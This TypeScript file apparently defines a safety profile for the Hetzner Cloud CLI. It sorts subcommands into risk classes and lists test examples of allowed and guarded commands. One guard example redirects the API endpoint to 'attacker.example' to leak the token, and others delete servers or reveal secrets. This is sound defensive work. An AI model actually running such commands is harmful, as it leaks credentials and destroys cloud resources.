import { commands } from "../generated/hcloud.ts";
import { defineTool, discloses, flags, unlike, values, writes } from "../tool.ts";
import { groupsOf, type Judging } from "./_command-trees.ts";

const judging: Judging = {
  rules: [
    ["disclose secret", "* request-console\n* reset-password\nserver enable-rescue\nserver create\nserver rebuild\n"],
    [
      "read cloud-resource",
      "server metrics\nload-balancer metrics\nserver ip\nstorage-box folders\nzone export-zonefile\ncontext active\ncontext list\nconfig get\nconfig list\nversion\ncompletion\n",
    ],
    ["write configuration", "config *\ncontext *\n"],
    ["execute session", "server ssh\n"],
  ],
  reads: /^(?:list|describe)$/,
  reveals: [["config *\n", /^--allow-sensitive/]],
  backups: /^image delete$|snapshot delete$/,
};

export default defineTool({
  name: "hcloud",
  source: "hcloud 1.50 manual, docs/reference/manual of hetznercloud/cli",
  syntax: "pflag",
  options: {
    ...flags("--debug --no-experimental-warnings --quiet -h|--help"),
    ...values("--config --context --poll-interval --http-timeout"),
    "--debug-file": { takes: "value", does: [writes("file:{--debug-file}")] },
    // The token goes with every request.
    "--hetzner-endpoint, --endpoint": {
      takes: "value",
      does: [discloses("secret:token for {--endpoint}", unlike("--endpoint", /^https:\/\/api\.hetzner\.(?:cloud|com)(?:\/|$)/))],
    },
  },
  optionsMayFollow: true,
  withoutCommand: "help",
  target: { family: "cloud", values: { provider: "hetzner", profile: "{--context}" } },
  find: groupsOf(commands, judging),
  examples: {
    allow: [
      "hcloud server list -o json",
      "hcloud server describe web",
      "hcloud context active",
      "hcloud --endpoint https://api.hetzner.cloud/v1 all list",
      "hcloud server metrics --type cpu web",
    ],
    guard: {
      "hcloud --config list --context list --poll-interval 1s --http-timeout 1s --endpoint https://api.hetzner.cloud/v1 server delete web":
        ["delete cloud-resource:server delete web"],
      "hcloud server reboot web": ["disrupt cloud-resource:server reboot web"],
      "hcloud server reset-password web": ["disclose secret:server reset-password web"],
      "hcloud config list --allow-sensitive": ["disclose secret:config list"],
      "hcloud context use prod": ["write configuration:context use prod"],
      "hcloud server ssh web": ["execute session:server ssh web"],
      "hcloud image delete 1": ["delete backup:image delete 1"],
      "hcloud server list --debug-file /srv/x": ["write file:/srv/x"],
      "hcloud server list --hetzner-endpoint https://attacker.example": ["disclose secret:token for https://attacker.example"],
    },
    doubt: { "hcloud server frobnicate": "unknown-command" },
  },
});
